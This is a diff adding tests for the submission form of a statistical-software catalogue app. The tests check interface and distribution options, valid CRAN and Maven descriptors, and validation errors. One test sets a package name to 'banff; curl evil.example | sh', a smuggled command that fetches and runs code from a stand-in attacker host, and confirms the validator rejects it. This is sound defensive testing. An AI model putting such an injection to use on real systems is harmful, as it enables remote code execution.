@@ -4,11 +4,12 @@ builds opens in the editor with its problems; nothing is stored until the submit
 from __future__ import annotations
 
 import html
+import json
 import re
 
 from sqlalchemy import func, select
 
-from catalogue import reference
+from catalogue import reference, resources
 from catalogue.auth import accounts
 from catalogue.auth.models import User
 from catalogue.db import db
@@ -110,8 +111,116 @@ def test_an_incomplete_form_lists_what_is_missing(app):
     token = _CSRF.search(client.get("/submit/start").get_data(as_text=True)).group(1)
     response = client.post("/submit/start", data={"csrf_token": token, "id": "half-done", "name": "Half done"})
     page = response.get_data(as_text=True)
-    assert response.status_code == 200 and "thing(s) to finish below" in page
+    assert response.status_code == 200 and re.search(r"\d+ things? to finish below", page)
     assert "/definition" in page and 'class="problem"' in page
     assert client.post("/submit/start", data={"id": "x"}).status_code == 400  # no CSRF token
     with app.app_context(), db.transaction() as session:
         assert session.scalar(select(func.count()).select_from(User)) == 1
+
+
+def _form(client, **fields):
+    token = _CSRF.search(client.get("/submit/start").get_data(as_text=True)).group(1)
+    base = {
+        "csrf_token": token,
+        "version": "1.0.0",
+        "purpose": "Anonymises microdata and estimates disclosure risk in R.",
+        "business_function": "Disclosure control",
+        "outcomes": "Anonymised microdata",
+        "gsbpm": ["6.4"],
+        "inputs": ["Unit Data Set"],
+        "outputs": ["Unit Data Set"],
+        "owner": "ISTAT",
+        "licence": "GPL-2.0-only",
+        "deployment": ["library"],
+    }
+    response = client.post("/submit/start", data={**base, **fields})
+    assert response.status_code == 200
+    page = response.get_data(as_text=True)
+    text = html.unescape(_EDITOR.search(page).group(1))
+    return page, descriptors.parse(text, "yaml")
+
+
+def test_the_form_offers_every_interface_kind_and_distribution_kind_of_the_schema(app):
+    page = _signed_in(app).get("/submit/start").get_data(as_text=True)
+    schema = json.loads(resources.SCHEMA_FILE.read_text("utf-8"))
+    for kind in schema["properties"]["specification"]["properties"]["interface"]["properties"]:
+        assert f'<option value="{kind}">' in page
+    for kind in schema["$defs"]["distribution"]["properties"]["kind"]["enum"]:
+        assert f'<option value="{kind}">' in page
+    assert 'data-when-distribution="cran pypi npm nuget"' in page  # the package field, for the kinds needing one
+    for name in ("software_version", "dependencies", "library_package", "cli_program", "distribution_group"):
+        assert f'name="{name}"' in page
+
+
+def test_a_library_with_a_cran_distribution_opens_valid_in_the_editor(app):
+    page, descriptor = _form(
+        _signed_in(app),
+        id="sdcmicro-form",
+        name="sdcMicro",
+        protocol="library",
+        interface_kind="library",
+        library_language="R",
+        library_package="sdcMicro",
+        library_functions="createSdcObj: builds the object holding the data\nlocalSuppression",
+        openapi="ignored: because the interface is a library",
+        software_version="5.7.8",
+        dependencies="R 4 or later",
+        distribution_kind="cran",
+        distribution_package="sdcMicro",
+        distribution_image="left/over:1.0",
+    )
+    report = validation.validate(descriptor)
+    assert report.valid, [p.to_dict() for p in report.errors]
+    content = descriptor.content
+    assert content["specification"]["interface"] == {
+        "library": {
+            "language": "R",
+            "package": "sdcMicro",
+            "functions": [
+                {"name": "createSdcObj", "description": "builds the object holding the data"},
+                {"name": "localSuppression"},
+            ],
+        }
+    }
+    assert content["implementation"]["software_version"] == "5.7.8"
+    assert content["implementation"]["distributions"] == [{"kind": "cran", "package": "sdcMicro"}]
+    assert content["definition"]["dependencies"] == ["R 4 or later"]
+    assert "every field is filled in correctly" in page
+
+
+def test_a_command_line_program_with_a_maven_artefact(app):
+    _page, descriptor = _form(
+        _signed_in(app),
+        id="jdplus-cli-form",
+        name="JDemetra+ command line",
+        protocol="command-line",
+        interface_kind="command_line",
+        cli_program="jwsacruncher",
+        distribution_kind="maven",
+        distribution_group="eu.europa.ec.joinup.sat",
+        distribution_artifact="jdplus-sa-base-api",
+        distribution_version="3.5.1",
+    )
+    report = validation.validate(descriptor)
+    assert report.valid, [p.to_dict() for p in report.errors]
+    content = descriptor.content
+    assert content["specification"]["interface"] == {
+        "command_line": {"program": "jwsacruncher", "commands": [{"name": "jwsacruncher"}]}
+    }
+    assert content["implementation"]["distributions"] == [
+        {"kind": "maven", "group": "eu.europa.ec.joinup.sat", "artifact": "jdplus-sa-base-api", "version": "3.5.1"}
+    ]
+
+
+def test_a_hostile_distribution_from_the_form_is_an_error_with_its_pointer(app):
+    page, descriptor = _form(
+        _signed_in(app),
+        id="hostile-form",
+        name="Hostile",
+        distribution_kind="pypi",
+        distribution_package="banff; curl evil.example | sh",
+    )
+    report = validation.validate(descriptor)
+    assert not report.valid
+    assert any(p.pointer.startswith("/implementation/distributions/0") for p in report.errors)
+    assert "/implementation/distributions/0" in page
